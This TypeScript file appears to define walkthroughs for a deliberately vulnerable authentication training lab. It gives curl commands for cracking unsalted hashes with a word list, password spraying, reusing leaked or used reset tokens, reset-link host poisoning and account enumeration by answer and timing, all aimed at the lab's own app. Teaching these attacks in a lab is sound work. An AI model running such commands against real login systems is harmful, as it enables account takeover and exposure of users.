import type { WalkthroughDeclaration } from '../lab-registry';

/**
 * The password lab's hands-on walkthroughs, by attack id (the attack
 * catalogue, `#/attacks`). Each step is checked on the server from what
 * really happened (src/server/labs/password/walkthroughs.ts). In the curl
 * answers, $APP stands for the lab's app origin (Settings shows it).
 */

const JSON_HEADER = `-H 'content-type: application/json'`;

export const OFFLINE_CRACK_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Get a user’s password back from their row of a leaked users table, with nothing but a word list.',
  steps: [
    {
      id: 'register',
      task: 'Register a new account whose password is a word from the lab’s word list (GET /api/lab/jwt/wordlist), for example supersecret.',
      hint: 'Any listed word of 8 or more characters that the deny-list lets through will do. The Accounts page registers too.',
      answer: `curl -s -X POST "$APP/api/auth/register" ${JSON_HEADER} -d '{"email":"crack-me@example.test","password":"supersecret"}'`,
    },
    {
      id: 'crack',
      task: 'Read that account’s row as a leaked backup shows it (GET /api/lab/password/stored), SHA-256 every word of the list, and paste the word whose hash matches.',
      hint: 'A row that starts with sha256$ is one unsalted SHA-256 of the password: hash each word the same way and compare. A $2b$ row is bcrypt: no list gets through it.',
      answer: `ROW=$(curl -s "$APP/api/lab/password/stored?email=crack-me@example.test" | jq -r .stored); curl -s "$APP/api/lab/jwt/wordlist" | jq -r '.words[]' | while read -r w; do [ "sha256\\$$(printf %s "$w" | sha256sum | cut -d' ' -f1)" = "$ROW" ] && echo "$w"; done`,
      paste: { label: 'The password you recovered' },
    },
  ],
};

export const PASSWORD_SPRAY_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Sign in to an account by trying only the handful of most common passwords.',
  victim: 'You play the account’s owner first: someone who picks a password every breach list holds.',
  steps: [
    {
      id: 'register',
      task: 'As the owner, register a new account with password1 as its password.',
      hint: 'With the deny-list on, the register route refuses it with 400 weak_password (common_password): that refusal is the defence.',
      answer: `curl -s -X POST "$APP/api/auth/register" ${JSON_HEADER} -d '{"email":"spray-me@example.test","password":"password1"}'`,
    },
    {
      id: 'spray',
      task: 'As the attacker, sign in to that account trying the most common passwords in order (password, 12345678, football, password1) until one works.',
      hint: 'POST /api/session/login with each guess. Four guesses stay under the limit of 5 failed logins per account.',
      answer: `for p in password 12345678 football password1; do curl -s -X POST "$APP/api/session/login" ${JSON_HEADER} -d "{\\"email\\":\\"spray-me@example.test\\",\\"password\\":\\"$p\\"}"; echo; done`,
    },
  ],
};

export const RESET_LEAKED_TOKEN_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Reset a victim’s password with nothing but the password_resets table of a leaked backup.',
  steps: [
    {
      id: 'request',
      task: 'Register a victim account and ask for a reset link for it (the victim asks, and never uses the link).',
      hint: 'POST /api/auth/register, then POST /api/password/forgot with the same email.',
      answer: `curl -s -X POST "$APP/api/password/forgot" ${JSON_HEADER} -d '{"email":"victim@example.test"}'`,
    },
    {
      id: 'leak',
      task: 'Read the password_resets table as a leaked backup holds it.',
      hint: 'The lab helper GET /api/lab/password/resets shows each stored value (tokenKey) exactly as the database keeps it.',
      answer: `curl -s "$APP/api/lab/password/resets"`,
    },
    {
      id: 'reset',
      task: 'Send the victim’s stored value as the token to POST /api/password/reset, with a password of your choice.',
      hint: 'If the database keeps the token itself, the stored value is a working token. If it keeps a SHA-256 of it, the reset refuses it.',
      answer: `curl -s -X POST "$APP/api/password/reset" ${JSON_HEADER} -d '{"token":"<tokenKey>","password":"attacker chose this one 7"}'`,
    },
  ],
};

export const RESET_REUSED_LINK_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Set a victim’s password with a reset link the victim already used.',
  steps: [
    {
      id: 'request',
      task: 'Register a victim account and ask for a reset link for it.',
      hint: 'POST /api/password/forgot; the link arrives in the lab inbox.',
      answer: `curl -s -X POST "$APP/api/password/forgot" ${JSON_HEADER} -d '{"email":"victim@example.test"}'`,
    },
    {
      id: 'victim-reset',
      task: 'As the victim, open the link from the lab inbox and set a new password.',
      hint: 'The token is the part after token= in the link; the reset page sends it to POST /api/password/reset.',
      answer: `curl -s -X POST "$APP/api/password/reset" ${JSON_HEADER} -d '{"token":"<token from the mail>","password":"victim new pass 1"}'`,
    },
    {
      id: 'reuse',
      task: 'As the attacker who found the link later, send the same token again with a password of your own.',
      hint: 'The same request as the victim’s, with another password.',
      answer: `curl -s -X POST "$APP/api/password/reset" ${JSON_HEADER} -d '{"token":"<the same token>","password":"attacker chose this one 7"}'`,
    },
  ],
};

export const RESET_HOST_POISONING_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Make the lab mail the victim a reset link that points at your own site.',
  steps: [
    {
      id: 'poison',
      task: 'Ask for a reset of a victim account, sending the attacker site’s host in an X-Forwarded-Host header.',
      hint: 'Browsers will not forge Host, but any client can add X-Forwarded-Host; curl does it with -H.',
      answer: `curl -s -X POST "$APP/api/password/forgot" ${JSON_HEADER} -H 'x-forwarded-host: localhost:<attacker port>' -d '{"email":"victim@example.test"}'`,
    },
    {
      id: 'inbox',
      task: 'Open the lab inbox and look at the link in the victim’s reset mail: which site does it open?',
      hint: 'GET /api/lab/inbox (or the Inbox page). A link on the attacker’s host hands the token to the attacker when the victim clicks.',
      answer: `curl -s "$APP/api/lab/inbox"`,
    },
  ],
};

export const ENUM_LOGIN_ANSWER_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Tell from the login’s answer alone which of two emails has an account.',
  steps: [
    {
      id: 'existing',
      task: 'Sign in to an email that has an account (user@authlab.test) with a wrong password.',
      hint: 'POST /api/session/login; note the status, the error code and the message.',
      answer: `curl -s -X POST "$APP/api/session/login" ${JSON_HEADER} -d '{"email":"user@authlab.test","password":"not the password 4417"}'`,
    },
    {
      id: 'unknown',
      task: 'Do the same for an email nobody registered, and compare the two answers.',
      hint: 'Any difference in status, code or message sorts emails into “has an account” and “does not”.',
      answer: `curl -s -X POST "$APP/api/session/login" ${JSON_HEADER} -d '{"email":"nobody-1@example.test","password":"not the password 4417"}'`,
    },
  ],
};

export const ENUM_LOGIN_TIMING_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Tell from the response time alone which emails have accounts.',
  steps: [
    {
      id: 'existing',
      task: 'Send 3 failed logins (wrong password) for an email that has an account.',
      hint: 'Stay at 3 or 4: an account takes 5 failed logins in 15 minutes. The traffic drawer shows each exchange’s duration.',
      answer: `for i in 1 2 3; do curl -s -o /dev/null -w '%{time_total}\\n' -X POST "$APP/api/session/login" ${JSON_HEADER} -d '{"email":"user@authlab.test","password":"not the password 4417"}'; done`,
    },
    {
      id: 'unknown',
      task: 'Send 3 failed logins for emails nobody registered, and compare the times.',
      hint: 'Without a dummy compare, an unknown email is refused before bcrypt runs: several times faster.',
      answer: `for i in 1 2 3; do curl -s -o /dev/null -w '%{time_total}\\n' -X POST "$APP/api/session/login" ${JSON_HEADER} -d "{\\"email\\":\\"nobody-$i@example.test\\",\\"password\\":\\"not the password 4417\\"}"; done`,
    },
  ],
};

export const ENUM_REGISTER_ANSWER_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Tell from the registration’s answer which email already has an account.',
  steps: [
    {
      id: 'taken',
      task: 'Register an email that already has an account (user@authlab.test), with any acceptable password.',
      hint: 'POST /api/auth/register; note the status and the body.',
      answer: `curl -s -X POST "$APP/api/auth/register" ${JSON_HEADER} -d '{"email":"user@authlab.test","password":"enumeration probe 1"}'`,
    },
    {
      id: 'free',
      task: 'Register an email nobody has, and compare the two answers.',
      hint: 'A 409 email_taken for one and a 202 for the other tells the attacker who is a customer.',
      answer: `curl -s -X POST "$APP/api/auth/register" ${JSON_HEADER} -d '{"email":"nobody-2@example.test","password":"enumeration probe 1"}'`,
    },
  ],
};
